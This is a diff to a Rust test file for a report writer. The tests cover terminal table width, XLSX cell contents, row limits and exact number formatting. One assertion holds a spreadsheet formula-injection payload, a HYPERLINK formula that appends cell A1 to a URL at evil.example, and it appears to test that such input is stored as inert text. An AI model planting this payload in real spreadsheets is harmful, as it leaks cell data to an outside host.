@@ -34,6 +34,20 @@ fn the_table_in_english_and_in_a_narrow_terminal_keeps_its_numbers_whole() {
 }
 
 #[test]
+fn a_narrow_terminal_keeps_every_line_within_its_width() {
+    for width in [107, 120, 140, 155] {
+        let options = Options { width: Some(width), ..Options::default() };
+        let table = String::from_utf8(bytes(&plain_rows(), ReportFormat::Table, options)).unwrap();
+        // In these rows every character beyond Latin is two cells wide.
+        let cells = |line: &str| line.chars().map(|c| if c < '\u{2e80}' { 1 } else { 2 }).sum::<usize>();
+        let widest = table.lines().skip(1).map(cells).max().unwrap();
+        assert!(widest <= usize::from(width), "{widest} of {width}\n{table}");
+        assert!(table.contains("成员流失率") && table.contains("数据不全 60.00"));
+        assert_eq!(table.contains("终端较窄,未列"), width < 155, "{table}");
+    }
+}
+
+#[test]
 fn no_name_reaches_the_terminal_with_a_character_that_it_acts_on() {
     let table = text(&hostile_rows(), ReportFormat::Table);
     assert!(!table.chars().any(|c| (c.is_control() && c != '\n') || matches!(c, '\u{202e}' | '\u{2066}' | '\u{200b}')));
@@ -118,9 +132,10 @@ fn the_workbook_holds_every_cell_and_not_one_formula() {
     assert_eq!(sheet.matches("<c ").count(), (rows.len() + 1) * DAILY.len());
     assert!(sheet.contains("state=\"frozen\"") && sheet.contains("ySplit=\"1\""));
     assert!(sheet.contains("<v>1234567.89</v>"), "money in yuan");
+    assert!(sheet.contains("<v>46173</v>"), "the day as a sheet counts days");
     let texts = &parts["xl/sharedStrings.xml"];
     assert!(texts.contains("=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"点我\")"));
-    assert!(texts.contains("离网率\nchurn_rate") && texts.contains("出账金额(元)\nbilled_yuan") && texts.contains("超限 breach"));
+    assert!(texts.contains("离网率\nchurn rate") && texts.contains("出账金额(元)\nbilled yuan") && texts.contains("超限 breach"));
     assert!(!texts.chars().any(|c| c.is_control() && c != '\n') && !texts.contains("_x00"));
     assert!(parts["xl/styles.xml"].contains("FFFFC7CE"), "over-limit cells are coloured");
 }
@@ -134,10 +149,16 @@ fn equal_rows_make_equal_workbooks() {
 fn a_workbook_refuses_more_rows_than_it_can_hold_and_cuts_what_no_cell_holds() {
     let columns = [Column::text("a", "甲")];
     let too_many = vec![[Cell::Null]; XLSX_ROWS_MAX + 1];
-    assert!(matches!(workbook("表", &columns, too_many.iter(), 0), Err(ReportError::TooManyRows { rows: 200_001, .. })));
+    assert!(matches!(workbook("表", &columns, too_many.iter(), 0), Err(ReportError::TooManyRows { rows: 100_001, .. })));
     let long = "😀".repeat(20_000);
     let parts = unzip(&workbook("表", &columns, [[Cell::from(long.as_str())]].iter(), 0).unwrap());
     assert_eq!(parts["xl/sharedStrings.xml"].matches('😀').count(), 16_383);
+}
+
+#[test]
+#[should_panic(expected = "a row of a listing has a cell for each column")]
+fn a_list_refuses_a_row_with_a_cell_missing() {
+    Listing::new(vec![Column::text("a", "甲"), Column::text("b", "乙")]).push(vec![Cell::Null]);
 }
 
 #[test]
@@ -173,7 +194,9 @@ fn a_list_is_written_by_the_same_writers() {
     let mut out = Vec::new();
     assert!(matches!(list.write(ReportFormat::Parquet, &Options::default(), &mut out), Err(ReportError::NotForLists { .. })));
     list.write(ReportFormat::Xlsx, &Options::default(), &mut out).unwrap();
-    assert!(unzip(&out)["xl/sharedStrings.xml"].contains("号码 138****8000"));
+    let texts = &unzip(&out)["xl/sharedStrings.xml"];
+    assert!(texts.contains("号码 138****8000"));
+    assert!(texts.contains("<t>-92233720368547758.08</t>") && texts.contains("<t>9223372036854775807</t>"), "exact, as text");
 }
 
 /// Takes some bytes, then refuses.
